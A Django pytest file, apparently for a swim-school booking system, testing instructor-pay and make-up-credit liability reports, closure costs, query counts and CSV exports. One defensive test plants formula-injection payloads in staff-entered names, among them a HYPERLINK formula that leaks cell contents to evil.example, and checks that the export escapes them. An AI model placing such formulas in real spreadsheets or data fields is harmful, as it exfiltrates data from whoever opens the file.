"""PKG-3 instructor pay and BEY-5 make-up liability: figures, fixed query counts, CSV."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from types import SimpleNamespace

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django_scopes import scope

from bookings.models import AttendanceState as S
from bookings.services import attendance_set_state, makeup_set_attendance, session_cancel
from credits.models import MakeupCredit
from credits.selectors.reports import closure_costs, instructor_pay, makeup_liability
from credits.services import credit_add_manual
from makeups.services import makeup_book
from programmes.models import ClosureCredits
from programmes.services import closure_create
from tests import factories as f

pytestmark = pytest.mark.django_db
NOW = datetime(2026, 11, 21, tzinfo=UTC)


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_pkg_3_paid_attendances_and_make_ups_apart_per_instructor(world, login):
    teacher = world.staff_a
    klass = f.ClassFactory(
        programme__company=world.company_a,
        instructor=teacher,
        min_age_months=None,
        max_age_months=None,
    )
    e1, e2, e3 = f.EnrolmentFactory.create_batch(3, klass=klass)
    s = f.SessionFactory(klass=klass, local_date=date(2026, 11, 10))
    home = f.EnrolmentFactory(klass=f.ClassFactory(programme=klass.programme))
    with scope(company=world.company_a):
        attendance_set_state(now=timezone.now(), enrolment=e1, session=s, state=S.PRESENT)
        attendance_set_state(now=timezone.now(), enrolment=e2, session=s, state=S.NO_SHOW)
        attendance_set_state(
            now=timezone.now(),
            enrolment=e3,
            session=s,
            state=S.CANCELLED,
            cancelled_at=s.starts_at - timedelta(days=3),
        )  # not paid
        later = f.SessionFactory(klass=klass, local_date=date(2026, 11, 24))
        credit = credit_add_manual(enrolment=home, reason="t", actor=None, valid_days=30, now=NOW)
        booking = makeup_book(credit=credit, actor=f.parent_of(credit), session=later, now=NOW)
        makeup_set_attendance(now=timezone.now(), booking=booking, state=S.PRESENT)
    client = login(world.admin_a)
    page = client.get("/manage/reports/instructor-pay/?first=2026-11-01&last=2026-11-30")
    rows = {r.instructor: (r.paid, r.makeups) for r in page.context["rows"]}
    assert rows[teacher.full_name] == (2, 1)
    rows_csv = _csv(
        client.get("/manage/reports/instructor-pay/?first=2026-11-01&last=2026-11-30&format=csv")
    )
    assert rows_csv[0] == ["Instructor", "Paid attendances", "Make-up attendances (not paid)"]
    assert rows_csv[-1] == ["Total", "2", "1"]
    bad = client.get("/manage/reports/instructor-pay/?first=2026-11-30&last=2026-11-01")
    assert "ends before it starts" in bad.content.decode()


def test_pkg_3_two_instructors_with_the_same_name_are_two_rows(world, login):
    """Rows are keyed by the instructor (the user), not by the name shown; two equal names
    are told apart by their e-mail, on the page and in the CSV."""
    first = f.MembershipFactory(
        company=world.company_a, user__full_name="Sam Taylor", user__email="sam.t@example.com"
    ).user
    second = f.MembershipFactory(
        company=world.company_a, user__full_name="Sam Taylor", user__email="sam.taylor@example.com"
    ).user
    other = f.MembershipFactory(company=world.company_a, user__full_name="Zoe Brown").user
    day = date(2026, 11, 10)
    with scope(company=world.company_a), time_machine.travel(NOW, tick=False):
        for teacher, students in [(first, 2), (second, 3), (other, 1)]:
            klass = f.ClassFactory(
                programme__company=world.company_a,
                instructor=teacher,
                min_age_months=None,
                max_age_months=None,
            )
            session = f.SessionFactory(klass=klass, local_date=day)
            for enrolment in f.EnrolmentFactory.create_batch(students, klass=klass):
                attendance_set_state(enrolment=enrolment, session=session, state=S.PRESENT, now=NOW)
    with scope(company=world.company_a):
        rows = instructor_pay(company=world.company_a, first=day, last=day)
    assert [(r.instructor, r.paid) for r in rows] == [
        ("Sam Taylor (sam.t@example.com)", 2),
        ("Sam Taylor (sam.taylor@example.com)", 3),
        ("Zoe Brown", 1),  # a name of its own is shown alone
    ]
    assert [r.instructor_id for r in rows] == [first.pk, second.pk, other.pk]
    client = login(world.admin_a)
    url = "/manage/reports/instructor-pay/?first=2026-11-10&last=2026-11-10"
    html = client.get(url).content.decode()
    assert "Sam Taylor (sam.t@example.com)" in html
    assert "Sam Taylor (sam.taylor@example.com)" in html
    assert _csv(client.get(url + "&format=csv"))[1:] == [
        ["Sam Taylor (sam.t@example.com)", "2", "0"],
        ["Sam Taylor (sam.taylor@example.com)", "3", "0"],
        ["Zoe Brown", "1", "0"],
        ["Total", "6", "0"],
    ]


def test_bey_5_liability_values_unused_credits_with_expiries_ahead(world, login):
    now = timezone.now()
    klass = f.ClassFactory(
        programme__company=world.company_a, location="Main pool", price_per_session=Decimal("25.00")
    )
    e = f.EnrolmentFactory(klass=klass)
    with scope(company=world.company_a):
        credit_add_manual(enrolment=e, reason="a", actor=None, valid_days=5, now=now)
        credit_add_manual(enrolment=e, reason="b", actor=None, valid_days=20, now=now)
        credit_add_manual(enrolment=e, reason="c", actor=None, now=now)  # open-ended
        credit_add_manual(
            enrolment=e, reason="gone", actor=None, valid_days=1, now=now - timedelta(days=3)
        )  # past expiry: not a liability
    client = login(world.owner_a)
    page = client.get("/manage/reports/makeup-liability/")
    (row,) = page.context["rows"]
    assert (row.location, row.credits, row.value) == ("Main pool", 3, Decimal("75.00"))
    assert (row.expiring_7, row.expiring_30, row.expiring_90) == (
        Decimal("25.00"),
        Decimal("50.00"),
        Decimal("50.00"),
    )
    rows_csv = _csv(client.get("/manage/reports/makeup-liability/?format=csv"))
    assert rows_csv[0][:4] == ["Programme", "Location", "Unused credits", "Value (AUD)"]
    assert rows_csv[-1] == [
        "Total", "", "3", "75.00", "25.00", "50.00", "50.00", "0", "0", "0.00",
    ]  # fmt: skip


def test_bey_5_liability_values_course_priced_credits_per_session_never_silently_0(world, login):
    """A class sold only per course: its credits are worth the course price divided by the
    class's sessions in its term (a cancelled one counts, one outside the term doesn't).
    Where that can't be computed, the credits are counted apart, not valued at 0."""
    programme = f.ProgrammeFactory(company=world.company_a, name="Swim Level 4")
    course = f.ClassFactory(
        programme=programme,
        location="Main pool",
        price_per_session=None,
        course_price=Decimal("270.00"),
    )  # term 6 Oct – 15 Dec 2026
    for week in range(9):  # Tuesdays 6 Oct … 1 Dec: 9 sessions in the term
        f.SessionFactory(
            klass=course,
            local_date=date(2026, 10, 6) + timedelta(weeks=week),
            cancelled_at=NOW if week == 8 else None,
        )
    f.SessionFactory(klass=course, local_date=date(2026, 12, 22))  # after the term
    weekly = f.ClassFactory(
        programme=programme, location="Main pool", price_per_session=Decimal("26.00")
    )
    no_sessions = f.ClassFactory(
        programme=programme, location="Lake pool", price_per_session=None, course_price=100
    )
    thirds = f.ClassFactory(
        programme__company=world.company_a,
        programme__name="Swim Level 5",
        location="Main pool",
        price_per_session=None,
        course_price=Decimal("100.00"),
    )
    for day in (date(2026, 10, 6), date(2026, 10, 13), date(2026, 10, 20)):
        f.SessionFactory(klass=thirds, local_date=day)
    with scope(company=world.company_a):
        for klass, days in [
            (course, 5),
            (course, None),
            (weekly, 20),
            (no_sessions, 3),
            (thirds, None),
            (thirds, None),
            (thirds, None),
        ]:
            credit_add_manual(
                enrolment=f.EnrolmentFactory(klass=klass),
                reason="t",
                actor=None,
                valid_days=days,
                now=NOW,
            )
        rows = makeup_liability(company=world.company_a, now=NOW)
    assert [
        (r.programme, r.location, r.credits, r.value, r.expiring_7, r.expiring_30) for r in rows
    ] == [
        ("Swim Level 4", "Lake pool", 1, Decimal("0.00"), Decimal("0.00"), Decimal("0.00")),
        # 270.00 / 9 = 30.00 a credit, with the weekly class's 26.00
        ("Swim Level 4", "Main pool", 3, Decimal("86.00"), Decimal("30.00"), Decimal("56.00")),
        # 100.00 / 3 sessions, three credits: 100.00, rounded once, not 3 × 33.33
        ("Swim Level 5", "Main pool", 3, Decimal("100.00"), Decimal("0.00"), Decimal("0.00")),
    ]
    assert [r.unpriced for r in rows] == [1, 0, 0]  # Lake pool's: no session to divide by
    client = login(world.admin_a)
    with time_machine.travel(NOW, tick=False):
        html = client.get("/manage/reports/makeup-liability/").content.decode()
        rows_csv = _csv(client.get("/manage/reports/makeup-liability/?format=csv"))
    assert "1 unused credit has no price for one session" in html
    assert rows_csv[0][-3] == "Unused credits with no per-session price (not valued)"
    assert rows_csv[1] == [
        "Swim Level 4", "Lake pool", "1", "0.00", "0.00", "0.00", "0.00", "1", "0", "0.00",
    ]  # fmt: skip
    assert rows_csv[-1] == [
        "Total", "", "7", "186.00", "30.00", "56.00", "56.00", "1", "0", "0.00",
    ]  # fmt: skip


def test_reports_cost_fixed_queries_and_are_for_admins(world, login):
    client = login(world.admin_a)

    def cost(url):
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        return len(ctx.captured_queries)

    urls = [
        "/manage/reports/instructor-pay/?first=2026-01-01&last=2026-12-31",
        "/manage/reports/makeup-liability/",
    ]
    before = [cost(u) for u in urls]
    for _ in range(3):
        klass = f.ClassFactory(
            programme__company=world.company_a,
            instructor=f.MembershipFactory(company=world.company_a).user,
        )
        e = f.EnrolmentFactory(klass=klass)
        with scope(company=world.company_a):
            attendance_set_state(
                now=timezone.now(),
                enrolment=e,
                session=f.SessionFactory(klass=klass),
                state=S.PRESENT,
            )
            credit_add_manual(now=timezone.now(), enrolment=e, reason="x", actor=None, valid_days=9)
    assert [cost(u) for u in urls] == before
    assert login(world.staff_a).get(urls[0]).status_code == 403


def test_bey_5_csv_exports_never_carry_a_formula(world, login):
    """Names typed by any staff login (instructor, programme, location) are text in the
    spreadsheet, never formulas; numbers stay numbers."""
    teacher = world.staff_a
    teacher.full_name = "+SUM(1+1)"
    teacher.save(update_fields=["full_name"])
    klass = f.ClassFactory(
        programme__company=world.company_a,
        programme__name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        location="@cmd",
        instructor=teacher,
        price_per_session=Decimal("25.00"),
        min_age_months=None,
        max_age_months=None,
    )
    enrolment = f.EnrolmentFactory(klass=klass)
    session = f.SessionFactory(klass=klass, local_date=date(2026, 11, 10))
    with scope(company=world.company_a):
        attendance_set_state(enrolment=enrolment, session=session, state=S.PRESENT, now=NOW)
        credit_add_manual(enrolment=enrolment, reason="a", actor=None, now=timezone.now())
    client = login(world.admin_a)
    liability = _csv(client.get("/manage/reports/makeup-liability/?format=csv"))
    assert liability[1][:4] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "'@cmd",
        "1",
        "25.00",
    ]
    pay = _csv(
        client.get("/manage/reports/instructor-pay/?first=2026-11-01&last=2026-11-30&format=csv")
    )
    assert pay[1] == ["'+SUM(1+1)", "1", "0"]


# --- closures, apart (BEY-5 with CLO-3) -----------------------------------------------------


def _closure(company, name, day, credits=ClosureCredits.POLICY):
    return closure_create(
        company=company, name=name, first_day=day, last_day=day, credits=credits, now=NOW
    )


@pytest.fixture
def closed(world):
    """Dolphins (25.00 a lesson, Main pool): Tue 24 Nov is closed for "Pool maintenance" and
    its lesson cancelled — Ava had cancelled herself the day before (her credit is hers, not
    the closure's), Ben and Cy get school credits. Tue 1 Dec is cancelled by the school for
    another reason (Dan's credit) and Tue 8 Dec is closed "no credit: priced into the term".
    Eve has a credit added by hand."""
    klass = f.ClassFactory(
        programme__company=world.company_a,
        programme__name="Swim Level 2",
        location="Main pool",
        price_per_session=Decimal("25.00"),
    )
    kids = {
        name: f.EnrolmentFactory(
            klass=klass, student__first_name=name, student__date_of_birth=date(2020, 6, 1)
        )
        for name in ("Ava", "Ben", "Cy")
    }
    lessons = [
        f.SessionFactory(klass=klass, local_date=date(2026, 11, 24) + timedelta(weeks=week))
        for week in range(3)
    ]
    with scope(company=world.company_a):
        maintenance = _closure(world.company_a, "Pool maintenance", date(2026, 11, 24))
        priced_in = _closure(
            world.company_a, "Gala", date(2026, 12, 8), credits=ClosureCredits.NONE
        )
        told = NOW - timedelta(days=1)
        attendance_set_state(
            enrolment=kids["Ava"],
            session=lessons[0],
            state=S.CANCELLED,
            cancelled_at=told,
            now=told,
        )
        session_cancel(session=lessons[0], reason="Pool maintenance", now=NOW, closure=maintenance)
        dan = f.EnrolmentFactory(klass=klass, student__date_of_birth=date(2020, 6, 1))
        attendance_set_state(enrolment=dan, session=lessons[1], state=S.STAFF_CANCELLED, now=NOW)
        session_cancel(session=lessons[2], reason="Gala", now=NOW, closure=priced_in)
        credit_add_manual(
            enrolment=f.EnrolmentFactory(klass=klass), reason="Sorry", actor=None, now=NOW
        )
        yield SimpleNamespace(
            world=world, klass=klass, kids=kids, lessons=lessons, maintenance=maintenance
        )


def _school_credit(enrolment, session):
    return MakeupCredit.objects.get(
        attendance__enrolment=enrolment, attendance__session=session, path="staff"
    )


def test_bey_5_unused_credits_from_closures_are_shown_apart_with_their_value(closed):
    (row,) = makeup_liability(company=closed.world.company_a, now=NOW)
    # Ava's own, Ben's and Cy's (closure), Dan's (school, no closure), Eve's (by hand).
    assert (row.credits, row.value) == (5, Decimal("125.00"))
    assert (row.closure_credits, row.closure_value) == (2, Decimal("50.00"))


def test_bey_5_what_each_closure_cost_used_unused_and_revoked(closed):
    ben, cy = closed.kids["Ben"], closed.kids["Cy"]
    other = f.ClassFactory(
        programme=closed.klass.programme, location="Main pool", min_age_months=None
    )
    makeup = f.SessionFactory(klass=other, local_date=date(2026, 11, 26))
    makeup_book(
        credit=_school_credit(ben, closed.lessons[0]),
        session=makeup,
        actor=closed.world.staff_a,
        source="staff",
        now=NOW,
    )
    (row,) = makeup_liability(company=closed.world.company_a, now=NOW)
    assert (row.credits, row.closure_credits, row.closure_value) == (4, 1, Decimal("25.00"))
    (cost,) = closure_costs(company=closed.world.company_a, now=NOW)
    assert (cost.name, cost.first_day, cost.removed) == (
        "Pool maintenance",
        date(2026, 11, 24),
        False,
    )
    # Ben's credit was used (a make-up given), Cy's is still owed: both cost a lesson.
    assert (cost.issued, cost.value, cost.unused, cost.unused_value) == (
        2,
        Decimal("50.00"),
        1,
        Decimal("25.00"),
    )
    # Cy turns out to have come after all: the revoked credit costs nothing.
    attendance_set_state(
        enrolment=cy, session=closed.lessons[0], state=S.PRESENT, now=NOW + timedelta(days=4)
    )
    (cost,) = closure_costs(company=closed.world.company_a, now=NOW)
    assert (cost.issued, cost.value, cost.unused, cost.unused_value) == (
        1,
        Decimal("25.00"),
        0,
        Decimal("0.00"),
    )
    # Once the unused credits expire, the used one is still what it cost.
    assert closure_costs(company=closed.world.company_a, now=NOW + timedelta(days=400))[
        0
    ].value == Decimal("25.00")


def test_bey_5_the_page_and_csv_show_closure_credits_apart(closed, login):
    client = login(closed.world.admin_a)
    with time_machine.travel(NOW, tick=False):
        html = client.get("/manage/reports/makeup-liability/").content.decode()
        rows_csv = _csv(client.get("/manage/reports/makeup-liability/?format=csv"))
    assert "What closures cost" in html and "Pool maintenance" in html
    assert "2 · 50.00" in html
    assert "Gala" not in html  # priced into the term: no credit, no cost
    assert rows_csv[0][-2:] == ["Unused credits from closures", "Their value (AUD)"]
    assert rows_csv[1][-2:] == ["2", "50.00"]
    # 30 days' validity: the four cancellation credits expire within 30 days, Eve's never.
    assert rows_csv[-1] == [
        "Total", "", "5", "125.00", "0.00", "100.00", "100.00", "0", "2", "50.00",
    ]  # fmt: skip


def test_bey_5_the_report_costs_the_same_with_more_closures(closed, login):
    client = login(closed.world.admin_a)

    def cost():
        with time_machine.travel(NOW, tick=False), CaptureQueriesContext(connection) as ctx:
            assert client.get("/manage/reports/makeup-liability/").status_code == 200
        return len(ctx.captured_queries)

    before = cost()
    klass = f.ClassFactory(
        programme=closed.klass.programme, location="Lake pool", price_per_session=None
    )
    for week, name in enumerate(["Storm", "Heatwave", "Works"]):
        day = date(2026, 11, 25) + timedelta(weeks=week)
        session = f.SessionFactory(klass=klass, local_date=day)
        f.EnrolmentFactory.create_batch(2, klass=klass)
        with scope(company=closed.world.company_a):
            session_cancel(
                session=session,
                reason=name,
                now=NOW,
                closure=_closure(closed.world.company_a, name, day),
            )
    assert cost() == before
    with scope(company=closed.world.company_a):
        costs = closure_costs(company=closed.world.company_a, now=NOW)
    assert [c.name for c in costs] == ["Pool maintenance", "Storm", "Heatwave", "Works"]
    # Two more students each week; no price for one session: counted, not valued.
    assert [(c.issued, c.unpriced, c.value) for c in costs[1:]] == [
        (n, n, Decimal("0.00")) for n in (2, 4, 6)
    ]
